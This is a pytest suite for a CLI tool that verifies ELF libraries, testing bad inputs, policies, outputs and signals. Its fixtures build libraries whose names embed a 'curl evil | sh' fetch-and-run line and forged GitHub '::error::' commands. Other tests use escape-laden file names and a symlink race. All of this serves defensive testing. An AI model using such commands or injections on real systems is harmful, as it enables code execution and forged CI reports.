"""What stops or disturbs `linkcheck verify`: bad inputs, policies, outputs and signals. Never a traceback."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import signal
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.cli.process import COMMAND, Ended, environment, linkcheck_command

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

pytestmark = pytest.mark.compile

GOOD = "libgood.so"


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("good") / GOOD
    small = ("-s", "-Wl,-z,noseparate-code")
    command = ["gcc", "-shared", "-fPIC", "-nostdlib", *small, "-xc", "-", f"-Wl,-soname,{GOOD}", "-o", str(path)]
    subprocess.run(command, input="int f(void) { return 1; }", text=True, check=True)
    return path


@pytest.fixture
def here(tmp_path: Path, good: Path) -> Path:
    """The working directory, with one good library in it."""
    shutil.copy(good, tmp_path / GOOD)
    return tmp_path


def end(here: Path, *arguments: str | bytes, **more: Any) -> Ended:
    done = linkcheck_command(*arguments, cwd=here, **more)
    assert b"Traceback" not in done.err, done.err
    assert b"internal error" not in done.err, done.err
    return done


def end_json(here: Path, *arguments: str | bytes, **more: Any) -> tuple[int, dict[str, Any]]:
    done = end(here, *arguments, "--format", "json", **more)
    assert done.err == b""
    return done.status, json.loads(done.out)


def assert_one_line(done: Ended, *words: str) -> None:
    """It could not be checked, and one line on standard error says why."""
    assert (done.status, done.out) == (2, b""), done
    assert len(done.errors) == 1, done.err
    assert done.errors[0].startswith("linkcheck: error: ")
    for word in words:
        assert word in done.errors[0]


def test_without_arguments_the_help_is_printed_as_it_is(here: Path) -> None:
    done, asked = end(here), end(here, "--help")
    assert (done.status, done.out, asked.status, asked.err) == (2, b"", 0, b"")
    assert done.err == asked.out
    assert len(done.errors) > 10


# ---------------------------------------------------------------- inputs


def make_cut(here: Path) -> str:
    content = (here / GOOD).read_bytes()
    (here / "cut.so").write_bytes(content[: len(content) // 3])
    return "cut.so"


def make_wild(here: Path) -> str:
    """DT_STRTAB points to nowhere."""
    content = bytearray((here / GOOD).read_bytes())
    start, count = int.from_bytes(content[32:40], "little"), int.from_bytes(content[56:58], "little")
    headers = [struct.unpack_from("<IIQQQQQQ", content, start + 56 * i) for i in range(count)]
    offset, size = next((h[2], h[5]) for h in headers if h[0] == 2)
    for at in range(offset, offset + size, 16):
        if int.from_bytes(content[at : at + 8], "little") == 5:
            struct.pack_into("<Q", content, at + 8, 0x7FFF_FFFF_0000)
    (here / "wild.so").write_bytes(content)
    return "wild.so"


def make_text(here: Path) -> str:
    (here / "notes.txt").write_text("hello\n")
    return "notes.txt"


def make_empty(here: Path) -> str:
    (here / "empty.so").touch()
    return "empty.so"


def make_fifo(here: Path) -> str:
    os.mkfifo(here / "pipe.so")
    return "pipe.so"


def make_empty_directory(here: Path) -> str:
    (here / "hollow").mkdir()
    return "hollow"


def make_text_directory(here: Path) -> str:
    (here / "docs").mkdir()
    (here / "docs/a.txt").write_text("hello\n")
    (here / "docs/b.o").write_bytes(b"\x7fNOT")
    return "docs"


def make_loop(here: Path) -> str:
    (here / "loop.so").symlink_to("loop.so")
    return "loop.so"


def make_dangling(here: Path) -> str:
    (here / "dangling.so").symlink_to("gone.so")
    return "dangling.so"


#: What a named input is -> status, code of the rule that speaks, and a word of it.
INPUTS: dict[str, tuple[Callable[[Path], str], int, str, str]] = {
    "missing": (lambda here: "nowhere.so", 2, "LC101", "missing"),
    "empty-name": (lambda here: "", 2, "LC101", "empty name"),
    "below-a-file": (lambda here: f"{GOOD}/x", 2, "LC101", ""),
    "too-long-a-name": (lambda here: "x" * 5000, 2, "LC101", ""),
    "empty-directory": (make_empty_directory, 2, "LC101", "nothing to check"),
    "directory-without-elf": (make_text_directory, 2, "LC101", "nothing to check"),
    "fifo": (make_fifo, 2, "LC101", "FIFO"),
    "device": (lambda here: "/dev/zero", 2, "LC101", "device"),
    "terminal": (lambda here: "/dev/tty", 2, "LC101", "device"),
    "dangling-link": (make_dangling, 2, "LC101", "link to nothing"),
    "looping-link": (make_loop, 2, "LC101", "loops"),
    "empty-file": (make_empty, 1, "LC101", "empty file"),
    "text": (make_text, 1, "LC101", "text file"),
    "truncated": (make_cut, 1, "LC103", "truncated"),
    "string-table-nowhere": (make_wild, 1, "LC103", "malformed"),
}


@pytest.mark.parametrize(("make", "status", "code", "word"), INPUTS.values(), ids=INPUTS)
def test_a_bad_input_is_named_and_has_its_status(
    here: Path, make: Callable[[Path], str], status: int, code: str, word: str
) -> None:
    name = make(here)
    done = end(here, "verify", name)
    assert (done.status, done.err) == (status, b"")
    assert code in done.text
    assert name in done.text
    assert word in done.text


@pytest.mark.parametrize(("make", "status", "code", "word"), INPUTS.values(), ids=INPUTS)
def test_json_is_json_whatever_the_input_is(
    here: Path, make: Callable[[Path], str], status: int, code: str, word: str
) -> None:
    name = make(here)
    found, document = end_json(here, "verify", name)
    assert found == status
    assert document["outcome"] == {1: "fail", 2: "could-not-check"}[status]
    told = document["findings"] if status == 1 else [c for c in document["checks"] if c["outcome"] == "unknown"]
    assert code in {one["code"] for one in told}


@pytest.mark.parametrize(("make", "status", "code", "word"), INPUTS.values(), ids=INPUTS)
def test_one_bad_input_costs_nothing_of_the_others(
    here: Path, make: Callable[[Path], str], status: int, code: str, word: str
) -> None:
    _, alone = end_json(here, "verify", GOOD)
    name = make(here)
    for order in ((name, GOOD), (GOOD, name)):
        found, document = end_json(here, "verify", *order)
        assert found == status
        assert document["inputs"] == list(order)
        assert [check for check in alone["checks"] if check not in document["checks"]] == []


@pytest.mark.parametrize("option", ["--dlopen", "--dlopen-global"])
@pytest.mark.parametrize("kind", ["fifo", "device", "truncated", "text", "missing", "looping-link"])
def test_a_bad_library_to_open_is_no_pass(here: Path, option: str, kind: str) -> None:
    make = INPUTS[kind][0]
    done = end(here, "verify", GOOD, option, f"./{make(here)}" if kind != "device" else "/dev/zero")
    assert done.status == (1 if kind in ("truncated", "text") else 2)


def test_an_unreadable_file_is_no_pass_and_costs_nothing_of_the_others(here: Path, prefix: tuple[str, ...]) -> None:
    shutil.copy(here / GOOD, here / "secret.so")
    os.chmod(here / "secret.so", 0)
    status, document = end_json(here, "verify", "secret.so", GOOD, prefix=prefix)
    assert status == 2
    told = {(c["subject"], c["outcome"]): c["reason"] for c in document["checks"]}
    assert "Permission denied" in told["secret.so", "unknown"]
    assert (GOOD, "pass") in told


def test_an_unreadable_part_of_a_directory_costs_nothing_of_the_rest(here: Path, prefix: tuple[str, ...]) -> None:
    top = here / "top"
    (top / "closed").mkdir(parents=True)
    for name in ("a.so", "z.so", "secret", "closed/x.so"):
        shutil.copy(here / GOOD, top / name)
    os.chmod(top / "secret", 0)
    os.chmod(top / "closed", 0)
    try:
        status, document = end_json(here, "verify", "top", prefix=prefix)
    finally:
        os.chmod(top / "closed", 0o755)
    assert status == 2
    checks = document["checks"]
    assert {"top/a.so", "top/z.so"} <= {check["subject"] for check in checks if check["outcome"] == "pass"}
    unknown = {check["subject"]: check["reason"] for check in checks if check["outcome"] == "unknown"}
    assert set(unknown) == {"top/secret", "top/closed"}
    assert all("Permission denied" in reason for reason in unknown.values())


def test_a_program_counts_as_named_also_when_its_directory_is_named_before(here: Path) -> None:
    (here / "bin").mkdir()
    command = ["gcc", "-pie", "-nostdlib", "-xc", "-", "-o", "bin/tool"]
    subprocess.run(command, input="void _start(void) {}", text=True, check=True, cwd=here)
    assert end(here, "verify", "bin/tool").status == 1  # a named program is a runner, and imports nothing
    assert end(here, "verify", "bin").status == 0
    for order in (("bin", "bin/tool"), ("bin/tool", "bin")):
        assert end(here, "verify", *order).status == 1


def test_a_linker_script_in_a_directory_is_nobodys_fault_and_a_text_is(here: Path) -> None:
    (here / "libgood_dev.so").write_text(f"/* GNU ld script */\nINPUT({GOOD})\n")
    assert end(here, "verify", ".").status == 0
    assert end(here, "verify", "libgood_dev.so").status == 1
    (here / "libtext.so").write_text("hello\n")
    assert end(here, "verify", ".").status == 1


def test_a_debug_companion_in_a_directory_is_nobodys_fault(here: Path) -> None:
    (here / ".debug").mkdir()
    subprocess.run(["objcopy", "--only-keep-debug", GOOD, f".debug/{GOOD}"], check=True, cwd=here)
    assert end(here, "verify", ".").status == 0
    assert end(here, "verify", f".debug/{GOOD}").status == 1


@pytest.fixture
def deep(here: Path) -> Iterator[Path]:
    """A directory to nest in without a bound; removed by rm, because shutil.rmtree recurses as well."""
    top = here / "top"
    top.mkdir()
    yield top
    subprocess.run(["rm", "-rf", str(top)], check=True)


@pytest.mark.parametrize("levels", [1900, 3000])
def test_a_directory_of_thousands_of_levels_costs_nothing_of_the_rest(here: Path, deep: Path, levels: int) -> None:
    for name in ("a.so", "z.so"):
        shutil.copy(here / GOOD, deep / name)
    descriptor = os.open(deep, os.O_RDONLY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=descriptor)
        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = below
    with open(os.open("deep.so", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor), "wb") as file:
        file.write((here / GOOD).read_bytes())
    os.close(descriptor)
    status, document = end_json(here, "verify", "top")
    subjects = {c["subject"] for c in document["checks"]}
    assert {"top/a.so", "top/z.so"} <= subjects
    if levels < 2000:
        assert (status, f"top/{'d/' * levels}deep.so" in subjects) == (0, True)
    else:  # longer than PATH_MAX: no path leads there
        assert status == 2
        assert any("File name too long" in c["reason"] for c in document["checks"] if c["outcome"] == "unknown")


@pytest.mark.parametrize("option", ["--select", "--ignore"])
@pytest.mark.parametrize("codes", ["LC2,LC3", "LC2, LC3", " lc2 ,lc3,", "Lc2,lC3"])
def test_codes_may_have_blanks_around_them_and_any_case(here: Path, option: str, codes: str) -> None:
    asked = end(here, "verify", GOOD, option, codes, "--format", "json")
    assert asked.status == 0
    assert asked.out == end(here, "verify", GOOD, option, "LC2", option, "LC3", "--format", "json").out


def test_a_selection_that_has_nothing_to_say_says_so(here: Path) -> None:
    status, document = end_json(here, "verify", GOOD, "--select", "LC102")
    (check,) = document["checks"]
    assert (status, check["code"]) == (2, "LC102")
    assert check["reason"] == "nothing to check: of the rules that run (LC102) none applies to what is here"


def test_many_inputs(here: Path) -> None:
    names = [f"{'many/' * 3}lib{number}.so" for number in range(400)]
    (here / "many/many/many").mkdir(parents=True)
    for name in names:
        os.link(here / GOOD, here / name)
    status, document = end_json(here, "verify", *names, *(f"missing{number}.so" for number in range(400)))
    assert status == 2
    assert len(document["inputs"]) == 800
    assert sum(check["outcome"] == "unknown" for check in document["checks"]) == 400


# ---------------------------------------------------------------- names

NAMES = {
    "line-feed": b"a\nb.so",
    "escapes": b"\x1b[31mred\x1b[0m.so",
    "not-utf-8": b"b\xff.so",
    "accent": "ünï.so".encode(),
    "command": b"::error::x.so",
    "right-to-left": "a\u202eb.so".encode(),
    "option-like": b"./--help.so",
    "spaces": b" .so",
}


@pytest.mark.parametrize("locale", ["C", "C.UTF-8", "POSIX"])
@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_hostile_names_are_judged_and_shown_safely(here: Path, name: bytes, locale: str) -> None:
    shutil.copy(os.fsencode(here / GOOD), os.path.join(os.fsencode(here), name))
    env = environment(LC_ALL=locale, PYTHONUTF8="0", PYTHONCOERCECLOCALE="0")
    done = end(here, "verify", name, "nowhere-" + "ü", env=env)
    assert done.status == 2
    lines = done.text.splitlines()
    assert all(line.isprintable() for line in lines), lines
    assert not any(line.startswith("::") for line in lines)
    assert any(line.startswith("COULD NOT CHECK: 0 errors") for line in lines)
    for format_ in ("json", "sarif", "junit", "github", "markdown"):
        other = end(here, "verify", name, "--format", format_, env=env)
        assert (other.status, other.err) == (0, b"")
        assert b"\x1b" not in other.out
    _, document = end_json(here, "verify", name, env=env)
    assert len(document["inputs"]) == 1


FORGED = "libx.so\n\n    curl evil | sh\n::error::x\n##[error]y\nCLEAN: nothing found"
#: Every name that a file carries is hostile: SONAME, NEEDED, DT_RUNPATH and a symbol.
HOSTILE_POLICY = """
[[state]]
name = "table"
owner = ["libowner.so"]
symbols = ["table_*"]
[[role]]
name = "part"
forbid-need = ["libx.so*"]
forbid-import = ["other_*"]
forbid-export = ["table_*"]
"""


@pytest.fixture
def forged(here: Path) -> Path:
    """A library of which every name tries to write lines of its own, and a program that needs it."""
    library = here / "libforged.so"
    flags = ("-shared", "-fPIC", "-nostdlib", "-Wl,--allow-shlib-undefined", "-xc", "-")
    source = "extern int other_Xcall(void); int table_Xget(void) { return other_Xcall(); }"
    runpath = f"-Wl,-rpath,/nowhere/{FORGED}"
    command = ["gcc", *flags, f"-Wl,-soname,{FORGED}", runpath, "-Wl,--hash-style=sysv", "-o", str(library)]
    subprocess.run(command, input=source, text=True, check=True)
    library.write_bytes(
        library.read_bytes().replace(b"table_Xget", b"table_\nget").replace(b"other_Xcall", b"other_\n    ")
    )
    needing = here / "libneeding.so"
    command = ["gcc", *flags, "-xnone", "-Wl,--no-as-needed", str(library), runpath, "-Wl,-soname,libneeding.so"]
    subprocess.run([*command, "-o", str(needing)], input="int g(void) { return 1; }", text=True, check=True)
    for path in (library, needing):  # the names are really there
        assert b"\n\n    curl evil | sh\n::error::x" in path.read_bytes()
    (here / "linkcheck.toml").write_text(HOSTILE_POLICY)
    return here


@pytest.mark.parametrize(
    ("command", "format_"),
    [
        *itertools.product(("verify", "scan"), ("text", "json", "sarif", "junit", "github", "markdown")),
        *itertools.product(("prebuilt",), ("text", "json")),
    ],
)
def test_names_from_files_forge_no_line_of_a_report(forged: Path, command: str, format_: str) -> None:
    shutil.copy(forged / "libforged.so", forged / "::error::x.so")
    paths = ["libforged.so"] if command == "prebuilt" else ["libforged.so", "libneeding.so", "::error::x.so"]
    done = end(forged, command, *paths, "--format", format_)
    assert done.err == b""
    assert "curl evil" in done.text or command == "scan"
    lines = done.text.splitlines()
    assert not any(line.strip().startswith(("curl evil", "CLEAN", "##[", "get")) for line in lines), done.text
    # In a command of GitHub's own it is no command.
    assert format_ == "github" or not any("##[error]" in line for line in lines), done.text
    forgeries = [line for line in lines if line.strip().startswith("::")]
    if format_ == "github":  # its own commands
        assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in forgeries)
    else:
        assert forgeries == []


def test_a_hostile_name_is_still_searched_for_as_it_is(forged: Path) -> None:
    shutil.copy(forged / "libforged.so", forged / FORGED)
    _, document = end_json(forged, "verify", "libneeding.so", "--library-path", ".", "--select", "LC202,LC204")
    assert [f["code"] for f in document["findings"]] == ["LC204"] * len(document["findings"]) != []
    assert all("\n" not in f["message"] for f in document["findings"])


@pytest.mark.parametrize("arguments", [("--format", b"n\xff\x1b[31m"), ("--profile", "nö\n"), (b"--opt\x1b[31m\xff",)])
def test_hostile_arguments_are_shown_safely(here: Path, arguments: tuple[str | bytes, ...]) -> None:
    env = environment(LC_ALL="C", PYTHONUTF8="0", PYTHONCOERCECLOCALE="0", PYTHONIOENCODING="ascii")
    done = end(here, "verify", GOOD, *arguments, env=env)
    assert_one_line(done)
    assert done.err.rstrip(b"\n").decode("ascii").isprintable()


# ---------------------------------------------------------------- usage and policy

USAGE: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "no-path": (("verify",), ("PATH", "linkcheck verify --help")),
    "option": (("verify", GOOD, "--frmat", "json"), ("--frmat", "--format")),
    "command": (("verfy",), ("verfy",)),
    "format": (("verify", GOOD, "--format", "xml"), ("xml", "'text', 'json', 'sarif', 'junit', 'github', 'markdown'")),
    "profile": (("verify", GOOD, "--profile", "execu"), ("execu", "executorch-caller-stream")),
    "profile-path": (("verify", GOOD, "--profile", "../profiles/executorch-caller-stream"), ("unknown profile",)),
    "select": (("verify", GOOD, "--select", "LC999"), ("--select", "LC999", "LC101")),
    "ignore": (("verify", GOOD, "--ignore", "X"), ("--ignore", "LC101")),
    "ignore-name": (("verify", GOOD, "--ignore", "split-state"), ("--ignore", "split-state is LC401")),
    "select-name": (("verify", GOOD, "--select", "LC3,Missing-Import"), ("--select", "missing-import is LC301")),
    "output-empty": (("verify", GOOD, "--output", ""), ("--output", "an empty value names no file")),
    "ignore-all": (("verify", GOOD, "--ignore", "LC"), ("leave no rule to run",)),
    "root": (("verify", GOOD, "--root", "nowhere"), ("nowhere", "--root")),
    "root-file": (("verify", GOOD, "--root", GOOD), (GOOD, "--root")),
    "require-import": (("verify", GOOD, "--require-import", "f@V1"), ("--require-import", "without its version")),
    "require-needed": (("verify", GOOD, "--require-needed", ""), ("--require-needed", "empty")),
    "dlopen": (("verify", GOOD, "--dlopen", ""), ("--dlopen", "empty")),
    "library-path": (("verify", GOOD, "--library-path", ""), ("--library-path", "empty")),
    "root-empty": (("verify", GOOD, "--root", ""), ("--root", "an empty name names no directory")),
    "select-empty": (("verify", GOOD, "--select", ""), ("--select", "an empty value names nothing")),
    "select-commas": (("verify", GOOD, "--select", "LC1", "--select", ",,"), ("--select", "an empty value")),
    "ignore-empty": (("verify", GOOD, "--ignore", ""), ("--ignore", "an empty value names nothing")),
    "pte-select-empty": (("pte", GOOD, "--select", ","), ("--select", "an empty value names nothing")),
    "tree-empty": (("tree", ""), ("an empty name names no file",)),
    "tree-root-empty": (("tree", GOOD, "--root", ""), ("--root", "an empty name names no directory")),
    "bindings-empty": (("bindings", ""), ("an empty name names no file",)),
    "prebuilt-empty": (("prebuilt", ""), ("an empty name names no file",)),
    "explain": (("explain", "LC999"), ("LC999", "LC101")),
    "policy-missing": (("verify", GOOD, "--policy", "nowhere.toml"), ("nowhere.toml", "no such file")),
    "policy-directory": (("verify", GOOD, "--policy", "."), ("is a directory",)),
    "policy-device": (("verify", GOOD, "--policy", "/dev/zero"), ("/dev/zero", "too large")),
    "policy-elf": (("verify", GOOD, "--policy", GOOD), (GOOD, "UTF-8")),
}


@pytest.mark.parametrize(("arguments", "words"), USAGE.values(), ids=USAGE)
def test_wrong_usage_is_one_line_that_names_what_is_wrong_and_what_is_allowed(
    here: Path, arguments: tuple[str, ...], words: tuple[str, ...]
) -> None:
    assert_one_line(end(here, *arguments), *words)


POLICIES = {
    "typo": ('extnds = ["x"]', "linkcheck.toml:1: ", ("extnds", "extends", "allowed")),
    "key-of-a-state": (
        '[[state]]\nname = "s"\nownr = ["x"]\nsymbols = ["f"]',
        "linkcheck.toml:3: ",
        ("ownr", "owner", "allowed"),
    ),
    "kind": ('[[role]]\nkind = "program"\nneed = ["x"]', "linkcheck.toml:2: ", ("program", "executable", "library")),
    "mode": ('[[dlopen]]\nfrom = "x"\npath = "y"\nmode = "lazy"', "linkcheck.toml:4: ", ("lazy", "local", "global")),
    "code": ('ignore = ["LC999"]', "linkcheck.toml:1: ", ("LC999", "LC101")),
    "no-toml": ("a = [", "linkcheck.toml:1: ", ("TOML",)),
    "no-demand": ("[[role]]\nfiles = ['x']", "linkcheck.toml:1: ", ("forbid-export",)),
    "extends": ('extends = ["nothing"]', "linkcheck.toml:1: ", ("nothing", "executorch-caller-stream")),
}


@pytest.mark.parametrize("named", [True, False], ids=["named", "found"])
@pytest.mark.parametrize(("text", "place", "words"), POLICIES.values(), ids=POLICIES)
def test_a_bad_policy_is_one_line_with_file_line_and_allowed_values(
    here: Path, text: str, place: str, words: tuple[str, ...], named: bool
) -> None:
    (here / "linkcheck.toml").write_text(f"{text}\n")
    options = ("--policy", "linkcheck.toml") if named else ()
    assert_one_line(end(here, "verify", GOOD, *options), place, *words)


def test_a_policy_that_nobody_writes_does_not_wait(here: Path) -> None:
    os.mkfifo(here / "policy.toml")
    assert_one_line(end(here, "verify", GOOD, "--policy", "policy.toml"), "policy.toml", "nobody writes")


def test_a_policy_may_come_from_another_command(here: Path) -> None:
    done = end(here, "verify", GOOD, shell='"$@" --policy <(sleep 0.2; echo "select = [\'LC202\']")')
    assert (done.status, done.err) == (0, b"")
    assert "1 passed" in done.text


# ---------------------------------------------------------------- outputs


def test_a_directory_that_is_not_there_for_the_report(here: Path) -> None:
    assert_one_line(end(here, "verify", GOOD, "--output", "nowhere/report.txt"), "nowhere/report.txt")
    assert_one_line(end(here, "verify", GOOD, "--output", "."), ".")
    assert sorted(os.listdir(here)) == [GOOD]


def test_a_report_in_a_file_is_all_there_is(here: Path) -> None:
    done = end(here, "verify", "nowhere.so", "--format", "json", "--output", "report.json")
    assert (done.status, done.out, done.err) == (2, b"", b"")
    assert json.loads((here / "report.json").read_text())["outcome"] == "could-not-check"


@pytest.mark.parametrize("name", [GOOD, "./" + GOOD, "link", "hard", "nested/other.so"])
def test_a_report_never_takes_the_place_of_what_is_checked(here: Path, name: str) -> None:
    (here / "link").symlink_to(GOOD)
    os.link(here / GOOD, here / "hard")
    (here / "nested").mkdir()
    shutil.copy(here / GOOD, here / "nested/other.so")  # the user names its directory only
    before = (here / name).read_bytes()
    for command in ("verify", "scan"):
        assert_one_line(end(here, command, GOOD, "nested", "--output", name), name, "would overwrite")
    assert (here / name).read_bytes() == before
    assert (here / "link").is_symlink()


@pytest.mark.parametrize("command", ["prebuilt", "bindings", "tree"])
def test_no_command_overwrites_its_input(here: Path, command: str) -> None:
    (here / "text").write_text("a text")
    before = {name: (here / name).read_bytes() for name in (GOOD, "text")}
    for name in before:
        assert_one_line(end(here, command, name, "--output", name), name, "would overwrite")
    assert {name: (here / name).read_bytes() for name in before} == before


def test_a_report_does_not_overwrite_its_policy(here: Path) -> None:
    (here / "linkcheck.toml").write_text('select = ["LC202"]\n')
    assert_one_line(end(here, "verify", GOOD, "--output", "linkcheck.toml"), "would overwrite")
    assert (here / "linkcheck.toml").read_text() == 'select = ["LC202"]\n'


def test_a_report_keeps_the_mode_and_the_links_of_the_file_it_replaces(here: Path) -> None:
    (here / "elsewhere").mkdir()
    report, link, dangling = here / "elsewhere/report.txt", here / "link.txt", here / "dangling.txt"
    report.write_text("the old one")
    report.chmod(0o640)
    link.symlink_to("elsewhere/report.txt")
    dangling.symlink_to("elsewhere/new.txt")
    for output in (link, dangling):
        assert end(here, "verify", GOOD, "--output", output.name).status == 0
        assert output.is_symlink()
        assert output.read_text().splitlines()[-1].startswith("PASS")
    assert report.stat().st_mode & 0o777 == 0o640
    assert sorted(os.listdir(here / "elsewhere")) == ["new.txt", "report.txt"]


def test_the_temporary_file_of_a_report_cannot_be_foreseen(here: Path) -> None:
    """Whoever may write to the directory makes the links that older releases would have followed."""
    target = here / "precious"
    target.write_text("precious")
    lure = """
import os, sys
from linkcheck.cli.run import run
os.symlink("precious", f"report.txt.{os.getpid()}.tmp")
sys.exit(run(["verify", "libgood.so", "--output", "report.txt"]))
"""
    done = subprocess.run([sys.executable, "-c", lure], cwd=here, env=environment(), capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    assert target.read_text() == "precious"
    assert not (here / "report.txt").is_symlink()


def test_standard_output_by_name_is_standard_output(here: Path) -> None:
    done = end(
        here, "verify", GOOD, "--output", "/dev/stdout", shell='"$@" > out.txt; exit=$?; cat out.txt; exit $exit'
    )
    assert done.status == 0
    assert done.text.splitlines()[-1].startswith("PASS")


def test_a_manual_page_that_python_left_out_is_said_to_be_missing(here: Path) -> None:
    env = environment(PYTHONOPTIMIZE="2")
    assert_one_line(end(here, "explain", "LC301", env=env), "LC301", "PYTHONOPTIMIZE=2")
    assert end(here, "verify", GOOD, "--format", "sarif", env=env).status == 0


EVERY_COMMAND = (
    ("verify", GOOD),
    ("verify", "nowhere.so"),
    ("rules",),
    ("explain", "LC301"),
    ("--help",),
    ("--version",),
)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("arguments", [*EVERY_COMMAND, ("verify", "--help")], ids=" ".join)
def test_a_full_disk_is_one_line(here: Path, arguments: tuple[str, ...]) -> None:
    assert_one_line(end(here, *arguments, shell='"$@" >/dev/full'), "standard output", "No space left on device")


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_disk_for_the_report_is_one_line(here: Path) -> None:
    assert_one_line(end(here, "verify", GOOD, "--output", "/dev/full"), "/dev/full", "No space left on device")


def test_a_full_disk_for_the_errors_still_has_a_status(here: Path) -> None:
    assert end(here, "verify", GOOD, "--profile", "x", shell='"$@" 2>/dev/full').status == 2


@pytest.mark.parametrize(
    "arguments",
    [*EVERY_COMMAND, ("-h",), ("verify", "--help"), ("tree", "--help"), ("pte", "build", "--help")],
    ids=" ".join,
)
def test_a_closed_output_is_one_line(here: Path, arguments: tuple[str, ...]) -> None:
    assert_one_line(end(here, *arguments, shell='"$@" >&-'), "standard output", "closed")


@pytest.mark.parametrize("closed", [">&- 2>&-", "2>&-", "<&-", "<&- 2>&-"])
def test_closed_streams_change_no_status(here: Path, closed: str) -> None:
    assert end(here, "verify", GOOD, shell=f'"$@" {closed}').status == (2 if ">&- 2" in closed else 0)
    assert end(here, "verify", "nowhere.so", shell=f'"$@" {closed}').status == 2
    assert end(here, "verify", GOOD, "--profile", "x", shell=f'"$@" {closed}').status == 2


@pytest.mark.parametrize("arguments", EVERY_COMMAND, ids=" ".join)
def test_a_reader_that_leaves_changes_no_status(here: Path, arguments: tuple[str, ...]) -> None:
    expected = end(here, *arguments).status
    # `exec true` is gone before a line is written, `head -1` after the first one.
    for reader in ("sleep 0.5 | exec true", "head -1 >/dev/null"):
        done = end(here, *arguments, shell=f'"$@" | {reader}; exit "${{PIPESTATUS[0]}}"')
        assert (done.status, done.err) == (expected, b"")


def test_a_long_report_into_a_pipe_that_is_closed_early(here: Path) -> None:
    names = [f"nowhere{number}.so" for number in range(3000)]
    done = end(here, "verify", *names, shell='"$@" | head -1; exit "${PIPESTATUS[0]}"')
    assert (done.status, done.err) == (2, b"")
    assert len(done.text.splitlines()) == 1


# ---------------------------------------------------------------- empty values


_TAKEN_BY_ALL = ("--dlopen", "--dlopen-global", "--library-path")


@pytest.mark.parametrize(
    ("command", "option"),
    [
        *((command, option) for command in ("verify", "scan", "tree", "bindings") for option in _TAKEN_BY_ALL),
        ("tree", "--preload"),
        ("bindings", "--preload"),
    ],
)
def test_an_empty_value_is_a_variable_that_nothing_set(here: Path, command: str, option: str) -> None:
    assert_one_line(end(here, command, GOOD, option, ""), f"{option}: an empty value names nothing")


def test_an_empty_name_of_a_program_is_said_to_be_empty(here: Path) -> None:
    done = end(here, "pte", "", "nowhere.pte")
    assert done.status == 2
    assert "an empty name names no file" in done.text and "nowhere.pte" in done.text


# ---------------------------------------------------------------- signals


def _processor_seconds(pid: int) -> float:
    """User and system time of a process so far (man 5 proc, /proc/PID/stat)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@pytest.mark.parametrize("after", [0.4, 0.8])
def test_ctrl_c_ends_it_by_the_signal_and_without_a_word(here: Path, after: float) -> None:
    content = (here / GOOD).read_bytes()
    for number in range(5000):
        (here / f"lib{number}.so").write_bytes(content)
    process = subprocess.Popen(
        [*COMMAND, "verify", "."], cwd=here, env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    while _processor_seconds(process.pid) < after:  # Python's own start, which is not ours to quieten, takes far less
        assert process.poll() is None, "it has to be at work when the signal comes"
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=30)
    assert process.returncode == -signal.SIGINT
    assert (out, err.strip()) == (b"", b"")  # click ends the line on which the terminal shows ^C
